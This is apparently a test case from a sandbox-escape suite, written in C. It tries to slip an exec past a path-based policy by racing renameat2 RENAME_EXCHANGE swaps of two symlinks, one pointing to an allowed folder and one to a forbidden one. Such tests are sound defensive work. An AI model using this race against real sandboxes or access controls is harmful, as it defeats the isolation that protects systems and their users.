// escape: a folder within the path is exchanged for another (RENAME_EXCHANGE of symlinks)
// group: path races
// policy: exec
// attempts: 1500
#include "escape.h"

static void attack(void) {
  if (symlink(GOOD_FOLDER, "/tmp/here") < 0 || symlink(forbidden_folder(), "/tmp/there") < 0)
    broken("symlink");
  if (beside()) {
    unsigned seed = 1;
    for (;;) {
      if (renameat2(AT_FDCWD, "/tmp/here", AT_FDCWD, "/tmp/there", RENAME_EXCHANGE) < 0) broken("renameat2");
      moment(&seed);
    }
  }
  while (more()) {
    if (!in_child()) continue;
    run("/tmp/here/prog");
    _exit(1);
  }
}
